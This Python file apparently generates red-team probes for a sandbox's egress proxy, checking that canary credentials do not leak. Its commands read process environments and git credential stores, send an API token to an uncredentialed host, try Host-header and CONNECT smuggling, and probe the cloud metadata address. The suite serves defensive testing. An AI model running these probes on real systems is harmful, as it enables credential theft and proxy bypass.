"""What the red-team sessions try: one bash command per session, from a family chosen by the
session's number, plus a sweep of everything the sandbox can read. No command holds a canary
or even the canaries' common prefix (the sweep builds it at run time), so any canary seen in a
command's output came from somewhere it must not be."""

from __future__ import annotations

import textwrap
from dataclasses import dataclass

PREFIX = "RTC4NARY"
"""Every canary starts with this; nothing else in the suite's inputs does."""

GIT_ID = "-c user.name=agent -c user.email=agent@example.com"


@dataclass(frozen=True, slots=True)
class Ports:
    """Where things listen on loopback."""

    tls: int
    """The HTTPS host the environment_variable credential is for (the intended upstream)."""
    other: int
    """A plain HTTP host no credential names (reached as `localhost`)."""
    mcp: int
    api: int
    model: int


SWEEP = textwrap.dedent(
    """\
    p=RTC4; p="${p}NARY"
    {
      env
      for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' '\\n' < "$f"; done
      grep -rao "$p[a-z0-9][a-z0-9]*" /workspace /tmp /etc /run /mnt /dev/shm /home /root /var
    } 2>/dev/null | grep -ao "$p[a-z0-9][a-z0-9]*" | sort -u | sed 's/^/HIT /'
    echo swept"""
)
"""Everything the sandbox can read, searched for any canary (its own or another session's)."""


def _python(code: str) -> str:
    """A Python snippet run inside the sandbox (single-quoted for bash)."""
    assert "'" not in code
    return f"python3 -c '{code}'"


def _raw_proxy(calls: list[str]) -> str:
    """Python sending raw requests to the egress proxy (TOK stands for the placeholder); prints
    the first line of each answer. A call with a TLS host name completes TLS after a `200` and
    sends its inner request there."""
    code = [
        "import os, socket, ssl",
        'tok = os.environ["API_TOKEN"]',
        "def go(raw, tls_host=None, inner=None):",
        '    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)',
        '    s.sendall(raw.replace("TOK", tok).encode())',
        '    head = s.recv(4096).split(b"\\r\\n")[0]',
        '    if tls_host and b" 200" in head:',
        "        s = ssl.create_default_context().wrap_socket(s, server_hostname=tls_host)",
        '        s.sendall(inner.replace("TOK", tok).encode())',
        '        head = s.recv(4096).split(b"\\r\\n")[0]',
        '    print(head.decode(errors="replace"))',
        *(f"try: go({call})\nexcept Exception as e: print(type(e).__name__, e)" for call in calls),
    ]
    return _python("\n".join(code))


def attack(i: int, ports: Ports, victim_resource: str) -> str:
    """The attack of session `i` (families rotate so 200 sessions cover each many times)."""
    tls = f"https://127.0.0.1:{ports.tls}/rt-{i}"
    other = f"http://localhost:{ports.other}/rt-{i}"
    family = i % 10
    if family == 0:  # the environment, every process's environ and argv
        return (
            "env | sort; tr '\\0' '\\n' < /proc/1/environ; tr '\\0' '\\n' < /proc/self/environ;"
            " ps -eo pid,user,args 2>/dev/null || ls /proc"
        )
    if family == 1:  # git's own view: config, remotes, credential helpers, stored credentials
        return (
            "cd /workspace/app && cat .git/config; git config -l --show-origin; git remote -v;"
            " cat ~/.gitconfig ~/.git-credentials ~/.config/git/credentials /etc/gitconfig 2>&1;"
            " printf 'protocol=http\\nhost=git.corral.invalid\\n\\n' |"
            " GIT_TERMINAL_PROMPT=0 GIT_ASKPASS=/bin/false git credential fill 2>&1;"
            " ls -la .git; cat .git/FETCH_HEAD .git/packed-refs 2>&1 | head -20"
        )
    if family == 2:  # git with every trace on: does anything the sandbox sees carry the token?
        return (
            "cd /workspace/app && GIT_TRACE=1 GIT_CURL_VERBOSE=1 GIT_TRACE_CURL=1"
            " GIT_TRACE_PACKET=1 git fetch origin 2>&1"
            " | grep -aiE 'authoriz|www-auth|< HTTP|=> Send'"
            " | head -40; git log -1 --format=%s origin/main"
        )
    if family == 3:  # a real push through the forwarder, then what it left behind
        return (
            f"cd /workspace/app && git checkout -qb rt-{i} && echo {i} > rt.txt && git add rt.txt"
            f" && git {GIT_ID} commit -qm rt-{i} && git push origin rt-{i} 2>&1; echo pushed=$?;"
            " cat .git/config; git reflog | head -3"
        )
    if family == 4:  # the intended use, then the placeholder sent to a host no credential names
        return (
            f'curl -sS {tls}/use -H "X-Api-Key: $API_TOKEN"; '
            f'curl -sS {other}/plain -H "Authorization: Bearer $API_TOKEN"'
            ' -H "X-Api-Key: $API_TOKEN";'
            f' curl -sS "{other}/query?key=$API_TOKEN" -H "Cookie: t=$API_TOKEN"'
        )
    if family == 5:  # Host header tricks: name the credential's host while going elsewhere
        return (
            f'curl -sS {other}/host -H "Host: 127.0.0.1:{ports.tls}" -H "X-Api-Key: $API_TOKEN";'
            f' curl -sS {other}/host2 -H "Host: 127.0.0.1" -H "X-Api-Key: $API_TOKEN"; '
            + _raw_proxy(
                [
                    # absolute-form to another host, Host naming the credential's host
                    f'"GET http://localhost:{ports.other}/rt-{i}/abs HTTP/1.1\\r\\n'
                    f'Host: 127.0.0.1:{ports.tls}\\r\\nX-Api-Key: TOK\\r\\n\\r\\n"',
                    # two Host headers
                    f'"GET http://localhost:{ports.other}/rt-{i}/two HTTP/1.1\\r\\n'
                    f"Host: localhost:{ports.other}\\r\\nHost: 127.0.0.1\\r\\n"
                    'X-Api-Key: TOK\\r\\n\\r\\n"',
                ]
            )
        )
    if family == 6:  # CONNECT tricks
        return (
            f'curl -sS {tls}/body --data-binary "t=$API_TOKEN" -H "X-Api-Key: $API_TOKEN"; '
            + _raw_proxy(
                [
                    # an opaque tunnel to another host, HTTP inside it
                    f'"CONNECT localhost:{ports.other} HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n'
                    f"GET /rt-{i}/tunnel HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n"
                    'X-Api-Key: TOK\\r\\n\\r\\n"',
                    # the credential's host name, but another (plain-HTTP) port
                    f'"CONNECT 127.0.0.1:{ports.other} HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n'
                    f'X-Api-Key: TOK\\r\\n\\r\\n"',
                    # the credential's host opened up, the request inside aimed elsewhere
                    f'"CONNECT 127.0.0.1:{ports.tls} HTTP/1.1\\r\\n\\r\\n", "127.0.0.1",'
                    f' "GET http://localhost:{ports.other}/rt-{i}/inner HTTP/1.1\\r\\n'
                    f'Host: localhost:{ports.other}\\r\\nX-Api-Key: TOK\\r\\n\\r\\n"',
                ]
            )
        )
    if family == 7:  # the proxy as a way into the host: the API, the model, MCP, metadata, git
        probes = [
            f"http://127.0.0.1:{ports.api}/v1/vaults",
            f"http://127.0.0.1:{ports.model}/v1/messages",
            f"http://127.0.0.1:{ports.mcp}/mcp",
            "http://169.254.169.254/latest/meta-data/",
            f"http://[::1]:{ports.api}/v1/vaults",
            f"http://git.corral.invalid/{victim_resource}/info/refs?service=git-upload-pack",
        ]
        return " ".join(
            f"curl -s -m 10 -o /dev/null -w 'code=%{{http_code}}\\n' {url};" for url in probes
        )
    if family == 8:  # files: the CA, mounts, anything new on disk
        return (
            "ls -la /run/corral /mnt /mnt/session /workspace 2>&1; cat /run/corral/corral-ca.crt"
            " | head -3; grep -v ' - ' /proc/self/mountinfo | head -30;"
            " find / -xdev -type f -newer /etc/hostname 2>/dev/null | grep -v '^/proc' | head -40"
        )
    # family 9: clients in other languages, a body and a header
    return (
        _python(
            "import os, urllib.request as u\n"
            't = os.environ["API_TOKEN"]\n'
            f'r = u.Request("{tls}/py", data=("p=" + t).encode(), headers={{"X-Api-Key": t}})\n'
            "print(u.urlopen(r).read().decode())\n"
            f'print(u.urlopen(u.Request("{other}/py", headers={{"X-Api-Key": t}})).read().decode())'
        )
        + f'; wget -q -O- --header "X-Api-Key: $API_TOKEN" {other}/wget 2>&1 | head -3'
    )
